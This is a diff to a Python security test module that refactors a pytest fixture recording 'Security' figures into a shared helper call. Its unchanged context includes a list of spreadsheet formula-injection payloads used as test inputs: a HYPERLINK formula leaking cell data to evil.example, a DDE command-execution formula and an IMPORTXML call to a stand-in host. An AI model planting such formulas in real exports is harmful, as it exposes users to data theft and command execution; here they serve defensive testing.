@@ -27,7 +27,7 @@ from mlv.db import make_engine
 from mlv.mailcow.emulator import Emulator, start_emulator_thread
 from mlv.queries.exports import FORMULA_START
 from tests.api.route_table import walk_in_child
-from tests.hardening.figures import record
+from tests.hardening.figures import module_figures
 from tests.servers import free_port
 from tests.ui.browser import PASSWORD, AppServer, app_server, launch, log_in
 from tests.ui.data import DemoServer, start_demo
@@ -50,14 +50,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'
             '=IMPORTXML(CONCAT("http://e.x/",A2),"//a")']
 PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9aw"
                        "AAAABJRU5ErkJggg==")
-FIGURES: dict[str, list[str]] = {}
-
-
-@pytest.fixture(scope="module", autouse=True)
-def figures() -> Iterator[None]:
-    yield
-    if FIGURES:
-        record("Security", [row for key in sorted(FIGURES) for row in FIGURES[key]])
+FIGURES, figures = module_figures("Security")
 
 
 def check_headers(r: httpx.Response, *, tls: bool = False) -> None:
